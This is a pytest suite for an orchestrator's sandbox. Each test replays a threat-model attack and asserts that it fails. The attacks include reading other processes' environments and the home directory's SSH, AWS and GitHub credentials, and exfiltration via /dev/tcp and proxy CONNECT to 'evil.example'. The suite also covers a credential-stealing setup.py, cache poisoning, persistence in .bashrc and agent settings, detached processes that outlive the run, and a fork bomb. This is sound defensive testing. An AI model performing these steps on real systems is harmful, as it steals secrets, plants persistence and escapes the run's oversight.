"""Attacks on what lies around a run, by code that the run starts: each row of the threat model by its id.

Harmless where the walls are missing, for root too: see `test_sandbox`.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from contextlib import ExitStack, closing, contextmanager
from pathlib import Path

import psutil
import pytest

from orchestrator.egress import Egress
from orchestrator.process import Cause
from orchestrator.sandbox import Bubblewrap, Ration, Walls
from tests.boxed import CANARY, PATH, Box, box, bwrap, walled
from tests.test_egress import echo, upstream

pytestmark = walled
__all__ = ["box", "bwrap"]


@pytest.mark.parametrize("file", ["environ", "cmdline", "maps", "root/etc/passwd", "cwd/.", "fd"])
def test_A26_environment_of_other_processes(box: Box, file: str) -> None:
    with subprocess.Popen(["sleep", "60"], env={**os.environ, "GITHUB_TOKEN": CANARY}) as daemon:
        try:
            said = box.sh(f"cat /proc/[0-9]*/environ; ls -d /proc/{daemon.pid}/{file}")
        finally:
            daemon.kill()
    assert CANARY not in said
    assert said.count("cannot access") == 1


def test_A27_reading_tool_walks_the_home(box: Box) -> None:
    (box.work / "link-to-home").symlink_to(box.home)
    seen = box.sh(f"grep -rs {CANARY} $HOME {box.home} {box.folder} link-to-home/ /home /root; echo searched")
    assert seen == "searched\n"
    said = box.sh(f"cat {box.home}/.ssh/id_ed25519 {box.home}/.aws/credentials {box.home}/.config/gh/hosts.yml")
    assert said.count("No such file") == 3


def test_A27_home_of_the_system_account(box: Box) -> None:
    home = Path(f"~{os.environ.get('USER') or 'root'}").expanduser()
    private = [str(path) for path in home.iterdir() if path.is_file()]
    assert private
    assert box.sh(f"for file in {' '.join(private)}; do [ -e $file ] && echo $file; done; true") == ""


ASK = """
import os, socket, sys
proxy = int(os.environ["HTTPS_PROXY"].rpartition(":")[2])
for place in sys.argv[1:]:
    with socket.create_connection(("127.0.0.1", proxy)) as end:
        end.sendall(b"CONNECT " + place.encode().replace(b"@@", bytes(1)) + b" HTTP/1.1\\r\\n\\r\\n")
        print(end.recv(100).split()[1].decode())
"""
SPELLINGS = (
    "evil.example",
    "127.0.0.1.",
    "127.1",
    "2130706433",
    "localhost",
    "127.0.0.1@@.evil.example",
    "x@127.0.0.1",
)


HAND_OVER = """
import glob, socket
with socket.create_server(("127.0.0.1", 0)) as listener, socket.socket(socket.AF_UNIX) as end:
    end.connect(*glob.glob("/run/orchestrator/gate"))
    socket.send_fds(end, [b"."], [listener.fileno()])
    print("taken")
"""


@contextmanager
def way_out(box: Box, model: int) -> Iterator[Walls]:
    with Egress([f"http://127.0.0.1:{model}"], {}) as gate:
        yield Walls(write=(box.work,), gate=gate)


def test_A28_exfiltration_past_the_allowed_host(box: Box) -> None:
    with closing(socket.create_server(("127.0.0.1", 0))) as evil, upstream(echo) as model:
        evil.setblocking(False)
        other = evil.getsockname()[1]
        places = [f"127.0.0.1:{model}", f"127.0.0.1:{other}", *(f"{host}:{model}" for host in SPELLINGS)]
        with way_out(box, model) as walls:
            assert box.python(ASK, *places, walls=walls).split() == ["200", *["403"] * 6, "400", "403"]
        with way_out(box, model) as walls:
            direct = f"echo {CANARY} >/dev/tcp/127.0.0.1/{other}"
            assert "refused" in box.said("bash", "-c", direct, walls=walls)
        with way_out(box, model) as walls:
            ask = f"exec 3<>/dev/tcp/127.0.0.1/{model}; echo to the model >&3; head -n 1 <&3"
            assert box.said("bash", "-c", ask, walls=walls) == "to the model\n"
        # A second listener would be one more way for the daemon to be asked, by nobody that it started.
        with way_out(box, model) as walls:
            assert "ConnectionRefusedError" in box.python(HAND_OVER, walls=walls)
        with pytest.raises(BlockingIOError):
            evil.accept()


def test_A28_commands_have_no_way_out_at_all(box: Box) -> None:
    with closing(socket.create_server(("127.0.0.1", 0))) as server:
        server.setblocking(False)
        script = (
            f"env | grep -i proxy; cat /proc/net/route | wc -l; echo x >/dev/tcp/127.0.0.1/{server.getsockname()[1]}"
        )
        assert "refused" in box.said("bash", "-c", script)
        assert box.output.read_text().startswith("1\n")  # the table's title
        with pytest.raises(BlockingIOError):
            server.accept()


SOCKETS = """
import os, socket, sys
for name in (os.environ["SSH_AUTH_SOCK"], os.environ["DOCKER_HOST"], "\\0" + os.environ["ABSTRACT"]):
    with socket.socket(socket.AF_UNIX) as end:
        print(end.connect_ex(name))
with socket.socket() as end:
    print(end.connect_ex(("127.0.0.1", int(os.environ["PORT"]))))
"""


def test_A29_sockets_of_the_machine(box: Box) -> None:
    name = f"orchestrator-{uuid.uuid4()}"
    with ExitStack() as servers:
        for address in (str(box.home / "agent"), str(box.folder / "docker"), f"\0{name}"):
            server = servers.enter_context(closing(socket.socket(socket.AF_UNIX)))
            server.bind(address)
            server.listen()
        port = servers.enter_context(closing(socket.create_server(("127.0.0.1", 0)))).getsockname()[1]
        known = {"SSH_AUTH_SOCK": str(box.home / "agent"), "DOCKER_HOST": str(box.folder / "docker")}
        box.run(sys.executable, "-I", "-S", "-c", SOCKETS, env={**known, "ABSTRACT": name, "PORT": str(port)})
        codes = [int(line) for line in box.output.read_text().split()]
    assert len(codes) == 4
    assert 0 not in codes
    assert box.sh("ls -A /run; find / -xdev -type s 2>/dev/null") == ""


BACKEND = """
import os, pathlib, socket
home = pathlib.Path(os.environ["REAL_HOME"])
found = []
for file in (home / ".ssh/id_ed25519", home / ".netrc"):
    if file.exists():
        found.append(file.read_text())
try:
    socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), 2).close()
    found.append("network")
except OSError:
    pass
try:
    (home / ".bashrc").write_text("planted")
    found.append("planted")
except OSError:
    pass
print("INSTALL SCRIPT RAN AND FOUND", found)
raise SystemExit(3)
"""


def test_A42_install_script_of_a_dependency(box: Box) -> None:
    package = box.work / "dependency"
    package.mkdir()
    (package / "setup.py").write_text(BACKEND)
    with closing(socket.create_server(("127.0.0.1", 0))) as server:
        env = {"REAL_HOME": str(box.home), "PORT": str(server.getsockname()[1])}
        path = f"{Path(sys.executable).parent}:{PATH}"
        (box.home / ".bashrc").write_text("as before")
        assert box.run("/bin/sh", "-c", "python setup.py install", cwd=package, env={**env, "PATH": path}).code == 3
    assert "INSTALL SCRIPT RAN AND FOUND ['planted']\n" in box.output.read_text()  # in a home that is thrown away
    assert (box.home / ".bashrc").read_text() == "as before"


@pytest.mark.parametrize("cache", [".cache/pip/wheel", ".npm/_cacache/index", ".cargo/registry/x", ".m2/repository/x"])
def test_A43_cache_poisoned_for_the_next_task(box: Box, cache: str) -> None:
    real = box.home / cache
    real.parent.mkdir(parents=True)
    real.write_text("clean")
    box.sh(f"mkdir -p {real.parent}; echo {CANARY} >{real}")
    assert CANARY not in box.sh(f"cat {real}")
    assert real.read_text() == "clean"


PLACES = (".bashrc", ".profile", ".claude/settings.json", ".config/systemd/user/x.service", ".gitconfig", "bin/git")
SYSTEM = "/etc /etc/cron.d /etc/profile.d /etc/passwd /usr/local/bin /var/spool/cron /var/spool/cron/crontabs /opt /srv"


def test_A45_persistence_in_home_and_system(box: Box) -> None:
    before = {path: path.read_bytes() for path in box.home.rglob("*") if path.is_file()}
    places = " ".join(str(box.home / place) for place in PLACES)
    box.sh(f"for place in {places}; do mkdir -p $(dirname $place); echo planted >>$place; done")
    assert "planted" not in box.sh(f"cat {places}; true")
    assert {path: path.read_bytes() for path in box.home.rglob("*") if path.is_file()} == before
    assert box.sh(f"for place in {SYSTEM}; do [ -w $place ] && echo $place; done; true") == ""


def test_A45_tools_of_the_home_cannot_be_replaced(box: Box) -> None:
    tool = box.home / ".local" / "bin" / "tool"
    tool.parent.mkdir(parents=True)
    tool.write_text("#!/bin/sh\necho real\n")
    tool.chmod(0o755)
    path = {"PATH": f"{tool.parent}:{PATH}"}
    script = "echo 'echo planted' >$(command -v tool); rm $(command -v tool); touch ~/.local/bin/git; tool"
    assert box.sh(script, env=path).endswith("real\n")
    assert [file.name for file in tool.parent.iterdir()] == ["tool"]


@pytest.mark.parametrize(
    "start",
    [
        "nohup {0} >/dev/null 2>&1 &",
        "setsid {0} >/dev/null 2>&1 &",
        "setsid env -i sh -c '{0} & exit' >/dev/null 2>&1 & wait",
        "(setsid env -i setsid {0} </dev/null >/dev/null 2>&1 &)",
    ],
)
def test_A46_child_that_outlives_the_run(box: Box, start: str) -> None:
    mark = f"20.{uuid.uuid4().int % 10**9:09}"  # so it ends by itself
    look = f"until ps -C sleep -o args= | grep -q {mark}; do sleep 0.01; done; echo up"
    ended = box.run("/bin/sh", "-c", f"{start.format(f'sleep {mark}')}\n{look}", seconds=15)
    assert (ended.cause, box.output.read_text()) == (Cause.EXITED, "up\n")
    left = [process for process in psutil.process_iter(["cmdline"]) if mark in (process.info["cmdline"] or ())]
    # The kernel has killed what is left, which takes its time to go on a busy machine.
    assert not psutil.wait_procs(left, timeout=4)[1]


def test_A47_fork_bomb(box: Box) -> None:
    small = Bubblewrap(ration=Ration(processes=40))
    before = len(psutil.pids())
    bomb = "i=0; while [ $i -lt 1500 ]; do (sleep 20; sleep 20) & i=$((i+1)); done 2>/dev/null; echo went off"
    box.run("/bin/sh", "-c", bomb, sandbox=small)
    assert "went off" not in box.output.read_text()
    assert len(psutil.pids()) < before + 200


def test_A47_enormous_file(box: Box) -> None:
    small = Bubblewrap(ration=Ration(file=1 << 20, scratch=1 << 20))
    fill = (
        "for place in . /tmp /dev/shm $HOME; do head -c 8000000 /dev/zero >$place/large; done; truncate -s 100G sparse"
    )
    box.run("/bin/sh", "-c", fill, sandbox=small)
    assert (box.work / "large").stat().st_size <= 1 << 20
    assert not (box.work / "sparse").exists() or (box.work / "sparse").stat().st_size <= 1 << 20


def test_A47_endless_output(box: Box) -> None:
    assert box.run("yes", CANARY).cause is Cause.FLOODED
    assert box.output.stat().st_size <= 1 << 20


def test_A47_memory(box: Box) -> None:
    small = Bubblewrap(ration=Ration(memory=200 << 20))
    assert box.run(sys.executable, "-I", "-S", "-c", "bytearray(400 << 20)", sandbox=small).code != 0
